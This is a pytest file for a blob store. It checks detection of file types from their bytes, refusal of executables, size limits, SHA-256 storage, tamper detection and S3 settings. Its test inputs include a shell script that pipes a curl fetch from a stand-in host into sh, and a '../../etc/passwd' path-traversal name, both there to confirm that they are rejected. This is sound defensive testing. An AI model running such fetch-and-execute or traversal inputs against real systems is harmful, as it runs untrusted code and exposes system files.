"""The blob store's checks (what the bytes are, how large) and the filesystem store, on files built here."""

from __future__ import annotations

import hashlib
import io
import stat
import struct
import sys
import zipfile
import zlib
from pathlib import Path

import pytest
from pydantic import ValidationError

from xinyi_shared.blobs import (
    DEFAULT_MAX_BYTES,
    MIB,
    BlobNotFound,
    BlobTampered,
    FilesystemBlobStore,
    MediaType,
    S3BlobStore,
    blob_store_from_settings,
    detect_media_type,
)
from xinyi_shared.errors import InvalidInput
from xinyi_shared.settings import ServiceSettings


def png_chunk(kind: bytes, payload: bytes) -> bytes:
    return struct.pack(">I", len(payload)) + kind + payload + struct.pack(">I", zlib.crc32(kind + payload))


def make_png() -> bytes:
    """A 1×1 grey PNG: signature, IHDR, IDAT (one filtered scanline), IEND."""
    header = struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0)  # width, height, depth 8, greyscale
    return (
        b"\x89PNG\r\n\x1a\n"
        + png_chunk(b"IHDR", header)
        + png_chunk(b"IDAT", zlib.compress(b"\x00\x80"))
        + png_chunk(b"IEND", b"")
    )


def jpeg_segment(marker: int, payload: bytes) -> bytes:
    return struct.pack(">BBH", 0xFF, marker, len(payload) + 2) + payload


def make_jpeg() -> bytes:
    """A decodable 1×1 greyscale baseline JPEG: one DC and one AC Huffman code, both '0'."""
    one_code_table = bytes([1] + [0] * 15) + b"\x00"  # one code of length 1, for symbol 0
    return (
        b"\xff\xd8"
        + jpeg_segment(0xDB, b"\x00" + b"\x01" * 64)  # quantisation table 0, all ones
        + jpeg_segment(0xC0, b"\x08\x00\x01\x00\x01\x01\x01\x11\x00")  # 8-bit, 1×1, one component
        + jpeg_segment(0xC4, b"\x00" + one_code_table)  # DC table 0
        + jpeg_segment(0xC4, b"\x10" + one_code_table)  # AC table 0 (symbol 0 = end of block)
        + jpeg_segment(0xDA, b"\x01\x01\x00\x00\x3f\x00")
        + b"\x3f"  # DC difference 0, end of block, padded with ones
        + b"\xff\xd9"
    )


def make_pdf() -> bytes:
    """A one-page PDF with a correct cross-reference table."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>",
    ]
    out = b"%PDF-1.4\n"
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return out


def make_webp() -> bytes:
    """The RIFF/WebP container with a lossless (VP8L) chunk header; the picture data is not decoded."""
    chunk = b"VP8L" + struct.pack("<I", 5) + b"\x2f\x00\x00\x00\x00" + b"\x00"
    return b"RIFF" + struct.pack("<I", 4 + len(chunk)) + b"WEBP" + chunk


def make_heic() -> bytes:
    return struct.pack(">I", 24) + b"ftypheic" + b"\x00\x00\x00\x00" + b"mif1heic"


def make_zip() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("META-INF/MANIFEST.MF", "Manifest-Version: 1.0\n")
    return buffer.getvalue()


def pdf_of_size(size: int) -> bytes:
    start = make_pdf()
    return start + b"\n" * (size - len(start))


PNG, JPEG, PDF = make_png(), make_jpeg(), make_pdf()


# ---------------------------------------------------------------- what the bytes are


@pytest.mark.parametrize(
    ("data", "expected"),
    [
        (PDF, MediaType.PDF),
        (PNG, MediaType.PNG),
        (JPEG, MediaType.JPEG),
        (make_webp(), MediaType.WEBP),
    ],
    ids=["pdf", "png", "jpeg", "webp"],
)
def test_accepted_types_are_recognised_from_their_bytes(data: bytes, expected: MediaType) -> None:
    assert detect_media_type(data) is expected


def test_heic_is_recognised_but_accepted_only_when_asked_for() -> None:
    with pytest.raises(InvalidInput, match=r"a HEIC file is not accepted here; accepted: PDF, PNG, JPEG, WebP"):
        detect_media_type(make_heic())
    assert detect_media_type(make_heic(), frozenset({MediaType.JPEG, MediaType.HEIC})) is MediaType.HEIC


def test_a_type_outside_the_callers_list_is_refused_naming_what_it_is() -> None:
    photos = frozenset({MediaType.PNG, MediaType.JPEG})
    with pytest.raises(InvalidInput, match=r"^a PDF file is not accepted here; accepted: PNG, JPEG$"):
        detect_media_type(PDF, photos)


def elf_program() -> bytes:
    """The running interpreter's own first bytes: a real ELF program, whatever its name."""
    with open(Path(sys.executable).resolve(), "rb") as program:
        return program.read(4096)


EXECUTABLES = {
    "elf": (elf_program(), "an ELF program"),
    "pe": (b"MZ\x90\x00\x03\x00\x00\x00" + b"\x00" * 56 + b"PE\x00\x00", "a Windows PE program"),
    "mach-o": (b"\xcf\xfa\xed\xfe\x07\x00\x00\x01" + b"\x00" * 24, "a Mach-O program"),
    "universal mach-o": (b"\xca\xfe\xba\xbe\x00\x00\x00\x02" + b"\x00" * 40, "a universal Mach-O program"),
    "java class": (b"\xca\xfe\xba\xbe\x00\x00\x00\x41" + b"\x00" * 40, "a Java class"),
    "shell script": (b"#!/bin/sh\ncurl http://example.invalid/x | sh\n", "a #! script"),
    "zip": (make_zip(), "a zip archive, the form of jars and APKs"),
    "webassembly": (b"\x00asm\x01\x00\x00\x00", "a WebAssembly module"),
}


@pytest.mark.parametrize(("data", "kind"), EXECUTABLES.values(), ids=EXECUTABLES.keys())
def test_executables_are_refused_by_name(data: bytes, kind: str) -> None:
    with pytest.raises(InvalidInput) as refused:
        detect_media_type(data)
    assert refused.value.reason == f"an executable is not accepted as a voucher/photo (this is {kind})"
    assert refused.value.http_status == 422
    assert refused.value.details == {"detected": kind}


def test_a_program_renamed_as_a_voucher_is_still_a_program(tmp_path: Path) -> None:
    renamed = tmp_path / "voucher.pdf"
    renamed.write_bytes(elf_program())
    with pytest.raises(InvalidInput, match="executable"):
        FilesystemBlobStore(tmp_path / "blobs").put(renamed.read_bytes())


@pytest.mark.parametrize(
    "data",
    [b"hello, this is plain text", b"GIF89a\x01\x00\x01\x00", b"<svg xmlns='http://www.w3.org/2000/svg'/>"],
    ids=["text", "gif", "svg"],
)
def test_anything_else_is_an_unrecognised_type(data: bytes) -> None:
    with pytest.raises(InvalidInput, match=r"^unrecognised file type; accepted: PDF, PNG, JPEG, WebP$"):
        detect_media_type(data)


def test_empty_data_is_refused() -> None:
    with pytest.raises(InvalidInput, match="empty"):
        detect_media_type(b"")


@pytest.mark.parametrize(
    ("data", "label"),
    [
        (PNG[:20], "PNG"),  # cut inside IHDR
        (PNG[:29] + b"\x00\x00\x00\x00" + PNG[33:], "PNG"),  # IHDR's CRC wrong
        (b"\x89PNG\r\n\x1a\n" + png_chunk(b"IDAT", b"x" * 13), "PNG"),  # no IHDR first
        (JPEG[:-2], "JPEG"),  # truncated: no end-of-image marker
        (b"RIFF\x04\x00\x00\x00WEBPJUNK", "WebP"),
    ],
    ids=["png-cut", "png-crc", "png-no-ihdr", "jpeg-truncated", "webp-no-frame"],
)
def test_a_damaged_image_is_refused(data: bytes, label: str) -> None:
    with pytest.raises(InvalidInput, match=rf"^the file starts like a {label} but is damaged or incomplete$"):
        detect_media_type(data)


def test_a_jpeg_with_trailing_data_after_its_end_marker_is_accepted() -> None:
    assert detect_media_type(JPEG + b"\x00" * 64) is MediaType.JPEG


# ---------------------------------------------------------------- size


def test_the_default_limit_is_ten_mib_and_named_when_exceeded(tmp_path: Path) -> None:
    store = FilesystemBlobStore(tmp_path)
    assert store.put(pdf_of_size(DEFAULT_MAX_BYTES)).size == 10 * MIB
    with pytest.raises(InvalidInput) as refused:
        store.put(pdf_of_size(DEFAULT_MAX_BYTES + 1))
    assert "at most 10 MiB (10485760 bytes) is accepted" in refused.value.reason
    assert refused.value.details == {"size": DEFAULT_MAX_BYTES + 1, "max_bytes": DEFAULT_MAX_BYTES}


def test_the_limit_is_configurable_per_store_and_per_call(tmp_path: Path) -> None:
    store = FilesystemBlobStore(tmp_path, max_bytes=MIB)
    with pytest.raises(InvalidInput, match=r"at most 1 MiB"):
        store.put(pdf_of_size(MIB + 1))
    with pytest.raises(InvalidInput, match=r"at most 0.5 MiB \(524288 bytes\)"):
        store.put(pdf_of_size(MIB // 2 + 1), max_bytes=MIB // 2)
    assert store.put(pdf_of_size(2 * MIB), max_bytes=2 * MIB).size == 2 * MIB


# ---------------------------------------------------------------- filesystem store


def stored_files(root: Path) -> list[Path]:
    return sorted(path for path in root.rglob("*") if path.is_file())


def test_put_stores_the_bytes_under_their_sha256(tmp_path: Path) -> None:
    store = FilesystemBlobStore(tmp_path / "blobs")  # created on demand
    blob = store.put(PNG)
    sha = hashlib.sha256(PNG).hexdigest()
    assert (blob.sha256, blob.size, blob.media_type) == (sha, len(PNG), MediaType.PNG)
    path = tmp_path / "blobs" / sha[:2] / sha[2:4] / sha
    assert stored_files(tmp_path) == [path]
    assert stat.S_IMODE(path.stat().st_mode) == 0o600  # personal data: the owner's only
    assert store.get(sha) == PNG
    assert store.exists(sha) and store.verify(sha)


def test_the_same_bytes_give_the_same_blob_and_one_file(tmp_path: Path) -> None:
    store = FilesystemBlobStore(tmp_path)
    first = store.put(JPEG)
    written = stored_files(tmp_path)[0].stat().st_mtime_ns
    assert store.put(JPEG) == first
    assert stored_files(tmp_path)[0].stat().st_mtime_ns == written  # not written again
    assert len(stored_files(tmp_path)) == 1
    assert store.put(PDF).sha256 != first.sha256


def test_a_refused_upload_writes_nothing(tmp_path: Path) -> None:
    store = FilesystemBlobStore(tmp_path / "blobs")
    with pytest.raises(InvalidInput):
        store.put(b"#!/bin/sh\n")
    assert not (tmp_path / "blobs").exists()


def test_a_missing_blob_is_not_found(tmp_path: Path) -> None:
    store = FilesystemBlobStore(tmp_path)
    absent = hashlib.sha256(b"never stored").hexdigest()
    assert not store.exists(absent)
    with pytest.raises(BlobNotFound) as missing:
        store.get(absent)
    assert missing.value.http_status == 404 and absent in missing.value.reason
    with pytest.raises(BlobNotFound):
        store.verify(absent)


@pytest.mark.parametrize("name", ["../../etc/passwd", "ab" * 31, "AB" * 32, "g" * 64, ""])
def test_only_sha256_names_are_looked_up(tmp_path: Path, name: str) -> None:
    store = FilesystemBlobStore(tmp_path)
    for look_up in (store.get, store.exists, store.verify):
        with pytest.raises(InvalidInput, match="SHA-256"):
            look_up(name)


def test_altered_bytes_are_detected_and_named(tmp_path: Path) -> None:
    store = FilesystemBlobStore(tmp_path)
    blob = store.put(PDF)
    (path,) = stored_files(tmp_path)
    forged = PDF.replace(b"200 200", b"999 999")
    path.write_bytes(forged)

    with pytest.raises(BlobTampered) as tampered:
        store.get(blob.sha256)
    assert blob.sha256 in tampered.value.reason
    assert tampered.value.actual == hashlib.sha256(forged).hexdigest()
    assert store.exists(blob.sha256) and not store.verify(blob.sha256)

    # Uploading the original again puts the right bytes back.
    assert store.put(PDF) == blob
    assert store.get(blob.sha256) == PDF


def test_no_temporary_file_is_left_behind(tmp_path: Path) -> None:
    store = FilesystemBlobStore(tmp_path)
    for data in (PNG, JPEG, PDF, PNG):
        store.put(data)
    assert [path.name for path in stored_files(tmp_path) if path.name.startswith(".")] == []
    assert len(stored_files(tmp_path)) == 3


# ---------------------------------------------------------------- from settings


def settings(**values: object) -> ServiceSettings:
    return ServiceSettings(service_name="ticketing", http_port=1, grpc_port=2, **values)  # type: ignore[arg-type]


def test_by_default_blobs_are_files_in_the_state_dir(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    monkeypatch.setenv("XINYI_STATE", str(tmp_path / "state"))
    chosen = settings()
    assert chosen.blob_backend == "filesystem"
    assert chosen.blob_dir == str(tmp_path / "state" / "blobs" / "ticketing")
    store = blob_store_from_settings(chosen)
    assert isinstance(store, FilesystemBlobStore)
    assert store.root == tmp_path / "state" / "blobs" / "ticketing" and store.max_bytes == DEFAULT_MAX_BYTES

    monkeypatch.delenv("XINYI_STATE")
    monkeypatch.setenv("XINYI_CACHE", str(tmp_path / "cache"))
    assert settings().blob_dir == str(tmp_path / "cache" / "state" / "blobs" / "ticketing")
    assert settings(blob_dir="/srv/blobs", blob_max_bytes=MIB).blob_dir == "/srv/blobs"


S3_VALUES = {
    "blob_backend": "s3",
    "s3_endpoint": "http://127.0.0.1:18333",
    "s3_bucket": "xinyi-ticketing",
    "s3_access_key": "xinyi-dev",
    "s3_secret_key": "xinyi-dev-secret",
}


def test_the_s3_backend_needs_every_s3_setting() -> None:
    with pytest.raises(ValidationError, match="XINYI_BLOB_BACKEND=s3 needs XINYI_S3_ENDPOINT, XINYI_S3_BUCKET"):
        settings(blob_backend="s3", s3_access_key="key", s3_secret_key="secret")
    with pytest.raises(ValidationError, match="needs XINYI_S3_SECRET_KEY"):
        settings(**{**S3_VALUES, "s3_secret_key": ""})
    store = blob_store_from_settings(settings(**S3_VALUES, blob_max_bytes=MIB))
    assert isinstance(store, S3BlobStore)
    assert (store.bucket, store.max_bytes, store.region) == ("xinyi-ticketing", MIB, "us-east-1")
    assert store.key("a" * 64) == "blobs/" + "a" * 64


def test_production_refuses_the_development_s3_secret() -> None:
    real = {"environment": "production", "db_password": "real-db", "client_secret": "real-client"}
    with pytest.raises(ValidationError, match="XINYI_S3_SECRET_KEY must be set to a real secret"):
        settings(**S3_VALUES, **real)
    assert settings(**{**S3_VALUES, "s3_secret_key": "a-real-one"}, **real).blob_backend == "s3"
